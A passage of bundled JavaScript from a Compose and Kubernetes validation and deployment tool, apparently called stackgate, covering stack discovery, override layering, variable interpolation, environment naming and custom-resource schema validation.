            const used = Array.isArray(s.networks) ? s.networks : s.networks && typeof s.networks === 'object' ? Object.keys(s.networks) : [];
            for (const n of used)
                if (typeof n === 'string' && n !== 'default' && !declared.networks.has(n))
                    networks.add(n);
            for (const v of Array.isArray(s.volumes) ? s.volumes : []) {
                const source = typeof v === 'string' ? v.split(':')[0] : v && typeof v === 'object' ? v.source : undefined;
                if (typeof source === 'string' && /^[A-Za-z0-9][\w.-]*$/.test(source) && !declared.volumes.has(source))
                    volumes.add(source);
            }
        }
    }
    return { networks: [...networks], volumes: [...volumes] };
}
/**
 * Override files that cannot run alone, layered on the base they extend. A Compose file of its own
 * whose services include one without `image`, `build` or `extends` (a fragment: labels for a reverse
 * proxy, lower limits), or use networks or named volumes it does not declare, is used as
 * `docker compose -f <base> -f <file>`: its stack is the nearest base file (its directory or one
 * above) that defines every such service and declares one of those networks and volumes, then the file.
 */
function withBases(ws, stacks) {
    const servicesOf = (file) => {
        const root = composeRoot(ws, file);
        const services = root && root !== 'missing' ? root.entries.get('services') : undefined;
        return services?.kind === 'map' ? services.entries : new Map();
    };
    const bases = stacks.filter((s) => isBaseComposeFile(s.files[0]));
    return stacks.map((stack) => {
        const [file] = stack.files;
        if (stack.files.length !== 1 || Object.keys(stack.environments).length || isBaseComposeFile(file))
            return stack;
        const fragments = [...servicesOf(file)]
            .filter(([, node]) => node.kind !== 'map' || !['image', 'build', 'extends'].some((key) => node.entries.has(key)))
            .map(([name]) => name);
        const borrowed = undeclaredReferences(ws, file);
        if (!fragments.length && !borrowed.networks.length && !borrowed.volumes.length)
            return stack;
        const completes = (baseFile) => {
            const declared = topLevelNames(ws, baseFile);
            // What it borrows from the base shows it is that base's override: one name the base declares is
            // enough, and whatever neither declares is reported on the merged stack.
            const lends = borrowed.networks.some((n) => declared.networks.has(n)) || borrowed.volumes.some((v) => declared.volumes.has(v));
            return fragments.every((name) => servicesOf(baseFile).has(name)) && (lends || (!borrowed.networks.length && !borrowed.volumes.length));
        };
        for (let dir = node_path_1.default.posix.dirname(file);; dir = node_path_1.default.posix.dirname(dir)) {
            const base = bases.find((b) => node_path_1.default.posix.dirname(b.files[0]) === dir && completes(b.files[0]));
            if (base)
                return { ...stack, files: [...base.files, file] };
            if (dir === '.' || dir === '/')
                return stack;
        }
    });
}
/**
 * Stacks by convention: `<dir>/common/<file>` is a base layer with `<dir>/<env>/<same file>` (or the
 * Compose files there) as its overrides; elsewhere `compose.yml`/`docker-compose.yml` is a base with
 * `*.override.yml` always applied and `*.<env>.yml` per environment; any other Compose file is a
 * stack of its own.
 */
function discoverStacks(composeFiles, envNames) {
    const envSet = new Set(envNames);
    const byDir = new Map();
    for (const f of composeFiles) {
        const dir = node_path_1.default.posix.dirname(f);
        byDir.set(dir, [...(byDir.get(dir) ?? []), f]);
    }
    const consumed = new Set();
    const stacks = [];
    for (const [dir, files] of byDir) {
        if (node_path_1.default.posix.basename(dir) !== 'common')
            continue;
        const parent = node_path_1.default.posix.dirname(dir);
        for (const base of files) {
            const baseName = node_path_1.default.posix.basename(base);
            const environments = {};
            for (const env of envNames) {
                const envDir = parent === '.' ? env : `${parent}/${env}`;
                const envFiles = byDir.get(envDir) ?? [];
                const same = envFiles.filter((f) => node_path_1.default.posix.basename(f) === baseName);
                const chosen = same.length ? same : files.length === 1 ? envFiles : [];
                if (chosen.length)
                    environments[env] = chosen;
                chosen.forEach((f) => consumed.add(f));
            }
            consumed.add(base);
            const stem = stemOf(baseName);
            stacks.push({ name: files.length === 1 || stem === 'docker-compose' || stem === 'compose' ? 'common' : stem, files: [base], environments, envFiles: [] });
        }
    }
    for (const [dir, files] of byDir) {
        const remaining = files.filter((f) => !consumed.has(f));
        if (!remaining.length)
            continue;
        // Files in an environment directory next to a `common` directory are overrides already consumed.
        if (envSet.has(node_path_1.default.posix.basename(dir)) && byDir.has(`${node_path_1.default.posix.dirname(dir) === '.' ? '' : `${node_path_1.default.posix.dirname(dir)}/`}common`))
            continue;
        const bases = remaining.filter(isBaseComposeFile);
        const dirName = dir === '.' ? 'root' : node_path_1.default.posix.basename(dir);
        if (bases.length) {
            const always = remaining.filter((f) => /\.override\.ya?ml$/i.test(f));
            const environments = {};
            for (const env of envNames) {
                const perEnv = remaining.filter((f) => new RegExp(`[.-]${escapeRegExp(env)}\\.ya?ml$`, 'i').test(f));
                if (perEnv.length || always.length)
                    environments[env] = [...always, ...perEnv];
                perEnv.forEach((f) => consumed.add(f));
            }
            always.forEach((f) => consumed.add(f));
            bases.forEach((f) => consumed.add(f));
            // Without environments, docker-compose.override.yml applies as `docker compose up` applies it.
            stacks.push({ name: dirName, files: envNames.length ? bases.slice(0, 1) : [bases[0], ...always], environments, envFiles: [] });
            bases.slice(1).forEach((f) => stacks.push({ name: `${dirName}/${stemOf(node_path_1.default.posix.basename(f))}`, files: [f], environments: {}, envFiles: [] }));
        }
        for (const f of remaining.filter((x) => !consumed.has(x))) {
            consumed.add(f);
            const stem = stemOf(node_path_1.default.posix.basename(f)).replace(/^(docker-)?compose[.-]?/i, '');
            stacks.push({ name: stem ? `${dirName}/${stem}` : dirName, files: [f], environments: {}, envFiles: [] });
        }
    }
    // Unique names: a clash gets the directory path.
    const counts = new Map();
    stacks.forEach((s) => counts.set(s.name, (counts.get(s.name) ?? 0) + 1));
    return stacks.map((s) => counts.get(s.name) > 1 ? { ...s, name: node_path_1.default.posix.dirname(s.files[0]) + (s.name.includes('/') ? `/${s.name.split('/').pop()}` : '') } : s);
}
function stemOf(name) {
    return name.replace(/\.ya?ml$/i, '');
}
function escapeRegExp(s) {
    return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
/**
 * Variables the shell that runs `docker compose` always sets (POSIX requires PWD; a login sets HOME,
 * USER, LOGNAME, PATH and SHELL): never undefined. PWD is where Compose runs, the project directory
 * in practice, so `${PWD}/data` is `./data`; HOME is the user's home, `~`. The others stand for
 * values the repository cannot know.
 */
const SHELL_VARIABLES = Object.freeze({
    PWD: '.',
    HOME: '~',
    USER: 'user',
    LOGNAME: 'user',
    PATH: '/usr/bin:/bin',
    SHELL: '/bin/sh',
});
function buildEffectiveStack(ws, config, stack, envName, problems) {
    const layers = [...stack.files, ...(stack.environments[envName] ?? [])];
    const envConfig = config.environments[envName];
    const firstLoc = { file: layers[0], line: 1, column: 1 };
    const scope = {
        vars: { ...SHELL_VARIABLES, ...variablesFor(ws, stack, envName, envConfig?.envFiles ?? [], envConfig?.variables ?? {}, problems) },
        environment: envName,
        ...documentedVariables(ws, layers),
        isComplete: envConfig?.variablesComplete ?? false,
    };
    let merged;
    for (const file of layers) {
        const root = composeRoot(ws, file);
        if (root === 'missing') {
            problems.push({
                kind: 'missing-file',
                message: `Compose file "${file}" of stack "${stack.name}" does not exist or was not loaded`,
                loc: { file: stack.files[0], line: 1, column: 1 },
                environment: envName,
            });
            continue;
        }
        if (!root)
            continue;
        const interpolated = interpolateTree(root, scope, problems);
        const resolved = resolveExtends(ws, file, interpolated, scope, problems);
        merged = merged ? (0, merge_1.mergeTopLevel)(merged, resolved) : resolved;
    }
    if (!merged)
        return undefined;
    const profiles = new Set(envConfig?.profiles ?? []);
    const servicesNode = merged.entries.get('services');
    const services = [];
    if (servicesNode?.kind === 'map') {
        for (const [name, node] of servicesNode.entries) {
            if (node.kind !== 'map')
                continue;
            const value = (0, yaml_tree_1.toPlain)(node);
            const svcProfiles = Array.isArray(value.profiles) ? value.profiles.map(String) : [];
            if (svcProfiles.length && !svcProfiles.some((p) => profiles.has(p)))
                continue;
            services.push({ name, node, value, loc: node.keyLoc ?? node.loc });
        }
    }
    return { name: stack.name, environment: envName, files: layers, node: merged, services, loc: firstLoc };
}
function composeRoot(ws, file) {
    const parsed = ws.parsed.get(file);
    if (!parsed)
        return ws.files.has(file) ? null : 'missing';
    const root = parsed.documents.find((d) => d.root)?.root;
    return root?.kind === 'map' ? root : null;
}
function variablesFor(ws, stack, envName, envFiles, variables, problems) {
    const projectDir = node_path_1.default.posix.dirname(stack.files[0]);
    const files = stack.envFiles.length ? stack.envFiles : [projectDir === '.' ? '.env' : `${projectDir}/.env`];
    let vars = {};
    for (const file of [...files, ...envFiles]) {
        const f = ws.files.get(file);
        if (!f)
            continue;
        const parsed = (0, env_file_1.parseEnvFile)(f.text, vars);
        for (const p of parsed.problems)
            problems.push({ kind: 'env-file', message: p.message, loc: { file, line: p.line, column: 1 }, environment: envName });
        vars = { ...vars, ...parsed.vars };
    }
    return { ...vars, ...variables };
}
/** The files that document a stack's variables without setting them (their values are placeholders). */
const EXAMPLE_ENV_FILES = ['.env.example', '.env.sample', '.env.dist'];
/**
 * Variables listed (or listed commented out, `# TOKEN=`) in an .env.example, .env.sample or .env.dist
 * in the directory of a layer of the stack or any directory above it, and the values listed (the
 * nearest file's first).
 */
function documentedVariables(ws, layers) {
    const dirs = new Set();
    for (const file of layers) {
        for (let dir = node_path_1.default.posix.dirname(file);; dir = node_path_1.default.posix.dirname(dir)) {
            dirs.add(dir);
            if (dir === '.' || dir === '/')
                break;
        }
    }
    const documented = new Set();
    const exampleValues = Object.create(null);
    for (const dir of dirs) {
        for (const name of EXAMPLE_ENV_FILES) {
            const text = (0, workspace_1.readText)(ws, dir === '.' ? name : `${dir}/${name}`);
            if (text === undefined)
                continue;
            for (const [variable, value] of Object.entries((0, env_file_1.parseEnvFile)(text).vars)) {
                documented.add(variable);
                if (value !== '' && !Object.hasOwn(exampleValues, variable))
                    exampleValues[variable] = value;
            }
            for (const m of text.matchAll(/^[ \t]*#[ \t]*(?:export[ \t]+)?([A-Za-z_][A-Za-z0-9_]*)=/gm))
                documented.add(m[1]);
        }
    }
    return { documented, exampleValues };
}
function interpolateTree(node, scope, problems) {
    switch (node.kind) {
        case 'scalar': {
            if (typeof node.value !== 'string' || !node.value.includes('$'))
                return node;
            const { value, issues } = (0, interpolate_1.interpolateString)(node.value, scope.vars);
            // A documented variable the repository does not set stands for its example value (a tag, a port), not for nothing.
            const usesExample = issues.some((i) => (i.kind === 'undefined' || i.kind === 'required') && Object.hasOwn(scope.exampleValues, i.variable));
            const effective = usesExample ? (0, interpolate_1.interpolateString)(node.value, { ...scope.exampleValues, ...scope.vars }).value : value;
            for (const issue of issues) {
                if (issue.kind === 'undefined' && scope.documented.has(issue.variable))
                    continue;
                const kind = issue.kind === 'undefined'
                    ? 'undefined-variable'
                    : issue.kind === 'required'
                        ? scope.isComplete
                            ? 'required-variable-complete'
                            : 'required-variable'
                        : 'interpolation-syntax';
                problems.push({ kind, message: issue.message, loc: node.loc, environment: scope.environment });
            }
            return { ...node, value: effective };
        }
        case 'seq':
            return { ...node, items: node.items.map((i) => interpolateTree(i, scope, problems)) };
        case 'map': {
            const entries = new Map();
            for (const [k, v] of node.entries)
                entries.set(k, k.startsWith('x-') ? v : interpolateTree(v, scope, problems));
            return { ...node, entries };
        }
    }
}
/** Resolves `extends` (same file or another file) for every service of one layer. */
function resolveExtends(ws, file, root, scope, problems) {
    const services = root.entries.get('services');
    if (services?.kind !== 'map')
        return root;
    const out = new Map();
    for (const [name, svc] of services.entries) {
        out.set(name, svc.kind === 'map' ? resolveService(ws, file, services, name, svc, scope, problems, []) : svc);
    }
    return { ...root, entries: new Map(root.entries).set('services', { ...services, entries: out }) };
}
function resolveService(ws, file, services, _name, svc, scope, problems, chain) {
    const ext = svc.entries.get('extends');
    if (!ext)
        return svc;
    const own = { ...svc, entries: new Map([...svc.entries].filter(([k]) => k !== 'extends')) };
    const spec = (0, yaml_tree_1.toPlain)(ext);
    const target = typeof spec === 'string' ? { service: spec } : spec;
    const report = (message) => {
        problems.push({ kind: 'extends', message, loc: ext.keyLoc ?? ext.loc, environment: scope.environment });
        return own;
    };
    if (!target || typeof target.service !== 'string')
        return report('"extends" needs a "service" name');
    let baseFile = file;
    let baseServices = services;
    if (typeof target.file === 'string') {
        baseFile = node_path_1.default.posix.normalize(node_path_1.default.posix.join(node_path_1.default.posix.dirname(file), target.file));
        const root = composeRoot(ws, baseFile);
        if (!root || root === 'missing')
            return report(`"extends" file "${target.file}" was not found (resolved to ${baseFile})`);
        const interpolated = interpolateTree(root, scope, problems);
        const s = interpolated.entries.get('services');
        if (s?.kind !== 'map')
            return report(`"extends" file "${target.file}" has no services`);
        baseServices = s;
    }
    const key = `${baseFile}#${target.service}`;
    if (chain.includes(key))
        return report(`"extends" cycle: ${[...chain, key].join(' -> ')}`);
    const base = baseServices.entries.get(target.service);
    if (base?.kind !== 'map')
        return report(`"extends" names service "${target.service}", which ${baseFile === file ? 'this file' : baseFile} does not define`);
    const resolvedBase = resolveService(ws, baseFile, baseServices, target.service, base, scope, problems, [...chain, key]);
    const merged = (0, merge_1.mergeService)({ ...resolvedBase, keyLoc: svc.keyLoc }, own);
    return { ...merged, keyLoc: svc.keyLoc, loc: svc.loc };
}
function dedupeProblems(problems) {
    const seen = new Set();
    return problems.filter((p) => {
        const k = `${p.kind}|${p.loc.file}|${p.loc.line}|${p.loc.column}|${p.message}|${p.environment}`;
        if (seen.has(k))
            return false;
        seen.add(k);
        return true;
    });
}
/**
 * The merged Compose file of one stack in one environment, for deploy: the same layers and merge
 * rules as validate, without interpolation (Portainer and `docker compose` substitute `${VAR}` from
 * the target's own variables, which hold the secrets). `stackName` picks a stack when the
 * repository has several; with one stack it may be omitted. Bad input is a UserError.
 */
function stackFileFor(ws, config, environment, stackName) {
    // Only the stack definitions: the effective stacks validate builds (interpolated, every environment) are not needed.
    const stacks = stackDefinitions(ws, config);
    const names = stacks.map((s) => s.name);
    if (!stacks.length)
        throw new errors_1.UserError(`environment "${environment}" deploys a Compose stack, but the repository has no Compose file`);
    const stack = stackName ? stacks.find((s) => s.name === stackName) : stacks.length === 1 ? stacks[0] : undefined;
    if (!stack)
        throw new errors_1.UserError(stackName
            ? `environment "${environment}" deploys Compose stack "${stackName}", which the repository does not have (stacks: ${names.join(', ')})`
            : `environment "${environment}": the repository has ${names.length} Compose stacks (${names.join(', ')}); name the one to deploy with deploy.<driver>.source`);
    const layers = [...stack.files, ...(stack.environments[environment] ?? [])];
    let merged;
    for (const file of layers) {
        const root = composeRoot(ws, file);
        if (root === 'missing')
            throw new errors_1.UserError(`Compose file "${file}" of stack "${stack.name}" does not exist`, { file });
        if (root === null)
            throw new errors_1.UserError(`Compose file "${file}" of stack "${stack.name}" is not a YAML mapping`, { file, line: 1 });
        merged = merged ? (0, merge_1.mergeTopLevel)(merged, root) : root;
    }
    const envConfig = config.environments[environment];
    const problems = [];
    const variables = variablesFor(ws, stack, environment, envConfig?.envFiles ?? [], envConfig?.variables ?? {}, problems);
    const bad = problems[0];
    if (bad)
        throw new errors_1.UserError(bad.message, { file: bad.loc.file, line: bad.loc.line });
    return {
        stack: stack.name,
        files: layers,
        text: (0, yaml_1.stringify)((0, yaml_tree_1.toPlain)(merged), { lineWidth: 0 }),
        projectDirectory: node_path_1.default.posix.dirname(stack.files[0]),
        variables,
    };
}


/***/ }),

/***/ 72658:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.DEFAULT_ENVIRONMENTS = exports.UNNAMED_ENVIRONMENT = void 0;
exports.hasNamedEnvironments = hasNamedEnvironments;
exports.environmentNames = environmentNames;
exports.configuredEnvironmentNames = configuredEnvironmentNames;
exports.isProductionEnvironment = isProductionEnvironment;
exports.isProductionName = isProductionName;
exports.isEnvironmentName = isEnvironmentName;
exports.sortEnvironmentNames = sortEnvironmentNames;
exports.environmentOf = environmentOf;
/**
 * The environments of a repository and which of them are production: what stackgate.yml's
 * `environments:` means, for Compose layering (compose/project.ts) and for manifests
 * (kubernetes/environment.ts). The schema of the section is in schema.ts.
 *
 * Nothing is invented: a repository has the environments its stackgate.yml names, or those its
 * Compose layout names (compose/project.ts), or none. Without any, Compose files are checked once,
 * as they are, under the unnamed environment.
 */
const errors_1 = __webpack_require__(74296);
/**
 * The one pass over the Compose files of a repository without environments. It counts as
 * production, as a manifest of no known environment does (kubernetes/environment.ts): what the
 * repository deploys is what serves, so the production checks apply.
 */
exports.UNNAMED_ENVIRONMENT = Object.freeze({ name: '', isProduction: true });
/** Whether the environments are real ones (configured or from the layout), not the unnamed pass. */
function hasNamedEnvironments(environments) {
    return environments.some((e) => e.name !== '');
}
/** Names a manifest's path segment or namespace is matched against when stackgate.yml names none. */
exports.DEFAULT_ENVIRONMENTS = ['dev', 'staging', 'prod'];
/** The names manifests are matched against (kubernetes/environment.ts): those in stackgate.yml, or dev, staging and prod. */
function environmentNames(config) {
    const names = Object.keys(config.environments);
    return names.length ? names : [...exports.DEFAULT_ENVIRONMENTS];
}
/** The environments stackgate.yml names: under `environments:`, else in the overrides of its `stacks:`. */
function configuredEnvironmentNames(config) {
    const names = Object.keys(config.environments);
    if (names.length)
        return names;
    return sortEnvironmentNames([...new Set(Object.values(config.stacks ?? {}).flatMap((s) => Object.keys(s.environments)))]);
}
function isProductionEnvironment(config, name) {
    return config.environments[name]?.production ?? isProductionName(name);
}
function isProductionName(envName) {
    return /^(prod|production|live)$/i.test(envName) || /[-_.]prod(uction)?$/i.test(envName);
}
const STAGES = [
    /^(dev|devel|develop|development|local|sandbox)$/i,
    /^(test|testing|qa|uat|int|integration)$/i,
    /^(stage|staging|preprod|pre-prod|preproduction)$/i,
];
/**
 * Whether a directory or file-name part names an environment (`stacks/prod`, `compose.staging.yml`):
 * the usual names of the stages, and production names such as `eu-prod`. Anything else (a
 * `stacks/monitoring` next to `stacks/common`) is a stack, not an environment.
 */
function isEnvironmentName(name) {
    return STAGES.some((re) => re.test(name)) || isProductionName(name);
}
/** Environments in promotion order: development, test, staging, production; alphabetical within a stage. */
function sortEnvironmentNames(names) {
    const stage = (name) => {
        const i = STAGES.findIndex((re) => re.test(name));
        return i >= 0 ? i : isProductionName(name) ? STAGES.length : 1.5;
    };
    return [...names].sort((a, b) => stage(a) - stage(b) || a.localeCompare(b));
}
/**
 * The section of stackgate.yml for `name`, or a UserError naming the file and the environments it
 * has, with `hint` saying what to add (`deploy`, `gate`).
 */
function environmentOf(config, configFile, name, section) {
    const where = configFile ?? 'stackgate.yml';
    const found = config.environments[name];
    if (found)
        return found;
    const known = Object.keys(config.environments);
    throw new errors_1.UserError(`environment "${name}" is not in ${where}${known.length ? ` (environments: ${known.join(', ')})` : ''}`, {
        file: configFile,
        hint: `add environments.${name}.${section} to ${where}`,
    });
}


/***/ }),

/***/ 76869:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.isTestPath = isTestPath;
/** `testPaths` of stackgate.yml: where test fixtures and CI scaffolding live (not deployments). */
const picomatch_1 = __importDefault(__webpack_require__(14006));
const matchers = new WeakMap();
/** Whether a repository-relative file is under one of the config's test paths. */
function isTestPath(config, file) {
    let match = matchers.get(config);
    if (!match) {
        match = config.testPaths.length ? (0, picomatch_1.default)(config.testPaths, { dot: true }) : () => false;
        matchers.set(config, match);
    }
    return match(file);
}


/***/ }),

/***/ 42785:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.scalarText = scalarText;
exports.displayValue = displayValue;
exports.displayPairs = displayPairs;
/**
 * A value from a user's file, as a message may show it: text and numbers as written, anything
 * else (a map or list where a name or a port belongs) as short JSON, never `[object Object]`,
 * `undefined` or `null`.
 */
const MAX_CHARS = 60;
/** Text of a scalar name (`mcp`, `12345`, `true`), or undefined for a missing, empty or non-scalar one. */
function scalarText(value) {
    if (typeof value === 'string')
        return value === '' ? undefined : value;
    if (typeof value === 'number' || typeof value === 'boolean' || typeof value === 'bigint')
        return String(value);
    return undefined;
}
function displayValue(value) {
    if (value === null || value === undefined || value === '')
        return '(empty)';
    const scalar = scalarText(value);
    if (scalar !== undefined)
        return scalar;
    let json;
    try {
        json = JSON.stringify(value) ?? typeof value;
    }
    catch {
        // A cycle cannot come from YAML data (aliases are expanded into copies); say what it is.
        json = typeof value;
    }
    return json.length > MAX_CHARS ? `${json.slice(0, MAX_CHARS - 1)}…` : json;
}
/** `app=mcp, tier=3` for a label map or selector; `none` when empty. */
function displayPairs(map) {
    const pairs = Object.entries(map).map(([k, v]) => `${k}=${displayValue(v)}`);
    return pairs.length ? pairs.join(', ') : 'none';
}


/***/ }),

/***/ 32789:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.isRecord = void 0;
/** A plain mapping (parsed JSON or YAML object), not an array or null. */
const isRecord = (v) => !!v && typeof v === 'object' && !Array.isArray(v);
exports.isRecord = isRecord;


/***/ }),

/***/ 18433:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.schemaKey = schemaKey;
exports.customResourceDefinitions = customResourceDefinitions;
exports.builtInCustomSchema = builtInCustomSchema;
exports.loadConfiguredSchemas = loadConfiguredSchemas;
exports.validateCustom = validateCustom;
/**
 * Schemas of custom resources: taken from CustomResourceDefinitions in the repository, from
 * schema files mapped in stackgate.yml (`kubernetes.schemas`), or from the few built-in ones, then
 * compiled with ajv the way the API server applies them (OpenAPI v3 quirks, unknown fields
 * rejected unless `x-kubernetes-preserve-unknown-fields`, nulls pruned).
 */
const ajv_1 = __importDefault(__webpack_require__(42463));
const yaml_1 = __webpack_require__(38815);
const prometheus_operator_schemas_1 = __webpack_require__(58382);
const schema_1 = __webpack_require__(80757);
function schemaKey(apiVersion, kind) {
    return `${apiVersion}/${kind}`;
}
function record(v) {
    return v && typeof v === 'object' && !Array.isArray(v) ? v : undefined;
}
/** The CustomResourceDefinitions among the objects (v1 and the removed v1beta1 shape). */
function customResourceDefinitions(objects) {
    const out = [];
    for (const crd of objects) {
        if (crd.kind !== 'CustomResourceDefinition' || (0, schema_1.groupOf)(crd.apiVersion) !== 'apiextensions.k8s.io')
            continue;
        const info = definitionOf(crd.value, crd);
        if (info)
            out.push(info);
    }
    return out;
}
function definitionOf(value, crd) {
    const spec = record(record(value)?.spec);
    const group = spec?.group;
    const kind = record(spec?.names)?.kind;
    if (typeof group !== 'string' || typeof kind !== 'string')
        return undefined;
    const versions = [];
    const legacy = record(record(spec?.validation)?.openAPIV3Schema);
    if (Array.isArray(spec?.versions)) {
        spec.versions.forEach((v, i) => {
            const name = record(v)?.name;
            if (typeof name !== 'string')
                return;
            const schema = record(record(record(v)?.schema)?.openAPIV3Schema);
            if (schema)
                versions.push({ name, schema, path: ['spec', 'versions', i, 'schema', 'openAPIV3Schema'] });
            else
                versions.push({ name, schema: legacy, path: legacy ? ['spec', 'validation', 'openAPIV3Schema'] : ['spec', 'versions', i] });
        });
    }
    else if (typeof spec?.version === 'string') {
        versions.push({ name: spec.version, schema: legacy, path: ['spec', 'validation', 'openAPIV3Schema'] });
    }
    return { group, kind, versions, crd };
}
/** Schemas shipped with stackgate for common operators (`group/version/Kind` -> schema). */
function builtInCustomSchema(apiVersion, kind) {
    return prometheus_operator_schemas_1.PROMETHEUS_OPERATOR_SCHEMAS.get(schemaKey(apiVersion, kind));
}
/**
 * Reads the schemas mapped in stackgate.yml (`kubernetes.schemas`): each file is a JSON Schema
 * (JSON or YAML) or a CustomResourceDefinition whose version schema is used. The engine passes
 * file contents in, so this stays free of I/O.
 */
function loadConfiguredSchemas(mapping, readText) {
    const schemas = new Map();
    const problems = [];
    for (const [key, file] of Object.entries(mapping)) {
        const parts = key.split('/');
        if (parts.length < 2) {
            problems.push({ key, file, message: `"${key}" is not of the form group/version/Kind (or version/Kind for the core group)` });
            continue;
        }
        const kind = parts[parts.length - 1];
        const apiVersion = parts.slice(0, -1).join('/');
        const text = readText(file);
        if (text === undefined) {
            problems.push({ key, file, message: `schema file ${file} was not found` });
            continue;
        }
        let parsed;
        try {
            parsed = (0, yaml_1.parse)(text);
        }
        catch (e) {
            problems.push({ key, file, message: `schema file ${file} does not parse: ${e.message.split('\n')[0]}` });
            continue;
        }
        const doc = record(parsed);
        let schema = doc;
        if (doc?.kind === 'CustomResourceDefinition') {
            const versions = record(doc.spec)?.versions;
            const match = Array.isArray(versions) ? versions.map(record).find((v) => v?.name === (0, schema_1.versionOf)(apiVersion)) : undefined;
            schema = record(record(match?.schema)?.openAPIV3Schema) ?? record(record(record(doc.spec)?.validation)?.openAPIV3Schema);
        }
        if (!schema) {
            problems.push({ key, file, message: `schema file ${file} holds no schema for ${key}` });
            continue;
        }
        schemas.set(schemaKey(apiVersion, kind), { key: schemaKey(apiVersion, kind), schema, origin: file });
    }
    return { schemas, problems };
}
/* ----------------------------------------------------------------------------------------------
 * Compiling: OpenAPI v3 as the API server reads it.
 */
const ajv = new ajv_1.default({ strict: false, allErrors: true, validateFormats: false, logger: false });
const compiled = new WeakMap();
/**
 * Rewrites an openAPIV3Schema into a JSON Schema ajv accepts and that behaves like the API server:
 * objects with `properties` reject unknown fields unless `x-kubernetes-preserve-unknown-fields`,
 * draft-4 boolean `exclusiveMinimum`, Go-only regular expressions are dropped, `nullable` without a
 * type is ignored. Only the structural part (properties, items, additionalProperties) is rewritten.
 */
function toJsonSchema(node, isRoot) {
    const src = record(node);
    if (!src)
        return node;
    const out = { ...src };
    if (out.nullable !== undefined && out.type === undefined)
        delete out.nullable;
    for (const bound of ['Minimum', 'Maximum']) {
        const flag = out[`exclusive${bound}`];
        if (typeof flag === 'boolean') {
            const limit = out[bound.toLowerCase()];
            delete out[`exclusive${bound}`];
            if (flag && typeof limit === 'number') {
                out[`exclusive${bound}`] = limit;
                delete out[bound.toLowerCase()];
            }
        }
    }
    if (typeof out.pattern === 'string') {
        try {
            new RegExp(out.pattern, 'u');
        }
        catch {
            // RE2 syntax such as `(?i)` has no JavaScript equivalent; the API server still checks it.
            delete out.pattern;
        }
    }
    const props = record(out.properties);
    if (props) {
        const next = {};
        for (const [k, v] of Object.entries(props))
            next[k] = toJsonSchema(v, false);
        if (isRoot || out['x-kubernetes-embedded-resource'] === true) {
            for (const k of ['apiVersion', 'kind'])
                next[k] ??= { type: 'string' };
            // The API server validates metadata itself (the CRD may only restrict name); keep it open.
            next.metadata = { type: 'object' };
        }
        if (isRoot)
            next.status ??= { type: 'object' };
        out.properties = next;
        if (out.additionalProperties === undefined && out['x-kubernetes-preserve-unknown-fields'] !== true)
            out.additionalProperties = false;
    }
    if (out.items !== undefined)
        out.items = Array.isArray(out.items) ? out.items.map((i) => toJsonSchema(i, false)) : toJsonSchema(out.items, false);
    if (record(out.additionalProperties))
        out.additionalProperties = toJsonSchema(out.additionalProperties, false);
    return out;
}
/** Removes null map values, which the API server prunes instead of rejecting. */
function pruneNulls(v) {
    if (Array.isArray(v))
        return v.map(pruneNulls);
    if (v && typeof v === 'object') {
        const out = {};
        for (const [k, x] of Object.entries(v))
            if (x !== null)
                out[k] = pruneNulls(x);
        return out;
    }
    return v;
}
function validateCustom(schema, value) {
    let entry = compiled.get(schema);
    if (!entry) {
        try {
            entry = { validate: ajv.compile(toJsonSchema(schema, true)) };
        }
        catch (e) {
            entry = { error: e.message.split('\n')[0] };
        }
        compiled.set(schema, entry);
    }
    if (!entry.validate)
        return { ok: false, error: entry.error ?? 'schema does not compile' };
    const valid = entry.validate(pruneNulls(value));
    if (valid)
        return { ok: true, errors: [] };
    const errors = (entry.validate.errors ?? []).map((e) => ({
        instancePath: e.instancePath,
        keyword: e.keyword,
        message: e.message,
        params: e.params,
    }));
    return { ok: true, errors };
}


/***/ }),

/***/ 63565:
/***/ ((__unused_webpack_module, exports) => {


/**
 * API versions that Kubernetes has removed, with the release that removed them and the
 * replacement (https://kubernetes.io/docs/reference/using-api/deprecation-guide/).
 */
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.REMOVED_APIS = void 0;
exports.removedApi = removedApi;
const table = [
    // [apiVersion, kinds, removedIn, replacement]
    ['extensions/v1beta1', ['Deployment', 'DaemonSet', 'ReplicaSet'], '1.16', 'apps/v1'],
    ['extensions/v1beta1', ['NetworkPolicy'], '1.16', 'networking.k8s.io/v1'],
    ['extensions/v1beta1', ['PodSecurityPolicy'], '1.16', 'policy/v1beta1, itself removed in 1.25: use Pod Security Admission'],
    ['extensions/v1beta1', ['Ingress'], '1.22', 'networking.k8s.io/v1'],
    ['apps/v1beta1', ['Deployment', 'StatefulSet', 'DaemonSet', 'ReplicaSet', 'ControllerRevision'], '1.16', 'apps/v1'],
    ['apps/v1beta2', ['Deployment', 'StatefulSet', 'DaemonSet', 'ReplicaSet', 'ControllerRevision'], '1.16', 'apps/v1'],
    ['networking.k8s.io/v1beta1', ['Ingress', 'IngressClass'], '1.22', 'networking.k8s.io/v1'],
    ['rbac.authorization.k8s.io/v1beta1', ['Role', 'RoleBinding', 'ClusterRole', 'ClusterRoleBinding'], '1.22', 'rbac.authorization.k8s.io/v1'],
    ['rbac.authorization.k8s.io/v1alpha1', ['Role', 'RoleBinding', 'ClusterRole', 'ClusterRoleBinding'], '1.22', 'rbac.authorization.k8s.io/v1'],
    ['admissionregistration.k8s.io/v1beta1', ['MutatingWebhookConfiguration', 'ValidatingWebhookConfiguration'], '1.22', 'admissionregistration.k8s.io/v1'],
    ['apiextensions.k8s.io/v1beta1', ['CustomResourceDefinition'], '1.22', 'apiextensions.k8s.io/v1'],
    ['apiregistration.k8s.io/v1beta1', ['APIService'], '1.22', 'apiregistration.k8s.io/v1'],
    ['authentication.k8s.io/v1beta1', ['TokenReview'], '1.22', 'authentication.k8s.io/v1'],
    [
        'authorization.k8s.io/v1beta1',
